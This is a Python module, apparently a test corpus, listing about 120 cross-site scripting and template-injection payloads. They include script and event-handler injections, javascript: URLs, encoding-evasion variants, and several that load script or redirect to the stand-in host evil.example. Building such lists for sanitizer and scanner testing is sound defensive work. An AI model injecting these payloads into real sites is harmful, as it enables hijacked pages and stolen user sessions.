"""What people have put where a text was expected, so that a page would do something: 120 of them."""

from __future__ import annotations

_CALL = "alert(1)"
_TAGS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script\n>", "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{}></script>", "<script type=module>{}</script>", "</script><script>{}</script>",
    "<!--><script>{}</script>-->", "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">',
    "<img/src/onerror={}>", "<img src=`x` onerror={}>", "<IMG SRC=x ONERROR={}>", "<img src=x:x onerror={}//",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<svg><set onbegin={} attributename=x>", "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'>", "<svg><foreignObject><body onload={}></svg>",
    "<math><mtext><script>{}</script></mtext></math>", "<math href='javascript:{}'>x</math>",
    "<math><style><img src=x onerror={}></style></math>", "<body onload={}>", "<body onpageshow={}>",
    "<iframe src='javascript:{}'></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe onload={}>",
    "<object data='javascript:{}'></object>", "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='javascript:{}'>", "<embed src='data:image/svg+xml,<svg onload={}>'>", "<video><source onerror={}></video>",
    "<video src=x onerror={}>", "<audio src=x onerror={}>", "<details open ontoggle={}>x</details>",
    "<select autofocus onfocus={}>", "<input autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<button autofocus onfocus={}>", "<keygen autofocus onfocus={}>", "<marquee onstart={}>x</marquee>",
    "<a href='javascript:{}'>x</a>", "<a href=' javascript:{}'>x</a>", "<a href='java\tscript:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>", "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<form action='javascript:{}'><button>x</button></form>",
    "<form><button formaction='javascript:{}'>x</button></form>", "<isindex type=image src=x onerror={}>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{{background:url('javascript:{}')}}</style>",
    "<div style='background:url(javascript:{})'>x</div>", "<div style=\"width:expression({})\">x</div>",
    "<div onmouseover={}>x</div>", "<p onpointerenter={}>x</p>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<plaintext><script>{}</script>",
    "<xmp><img src=x onerror={}></xmp>", "<title><img src=x onerror={}></title>", "<frameset onload={}>",
    "<table background='javascript:{}'>", "<td background='javascript:{}'>", "<dialog open onclose={}>x</dialog>",
    "<portal src='javascript:{}'>", "<applet code=x onerror={}>", "<bgsound src='javascript:{}'>",
    "<layer src='javascript:{}'>", "<xss id=x tabindex=1 onfocus={}></xss>", "<x contenteditable onblur={}>x</x>",
)  # fmt: skip
_CLOSES = (
    '">', "'>", "'><b>", '"><svg onload={}>', "' onmouseover='{}", '" autofocus onfocus="{}', '"/onload={}/"',
    "</textarea><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>", "</option></select>"
    "<img src=x onerror={}>", "</code></pre><script>{}</script>", "</details></form><form action=//evil.example>",
    "]]><script>{}</script>", "--><script>{}</script>", "\\\"><script>{}</script>", "javascript:{}", "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}", "{{% raw %}}<script>{}</script>", "{{{{ 7*7 }}}}", "${{{{7*7}}}}", "#{{7*7}}",
    "<%= 7*7 %>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e", "\u202e<script>{}</script>", "<scr\u200bipt>{}</scr\u200bipt>",
    "\x00<script>{}</script>", "<script\x0c>{}</script>", "\r\n\r\n<script>{}</script>", "<\x00script>{}</script>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(each.format(*[_CALL] * each.count("{}")) for each in (*_TAGS, *_CLOSES))
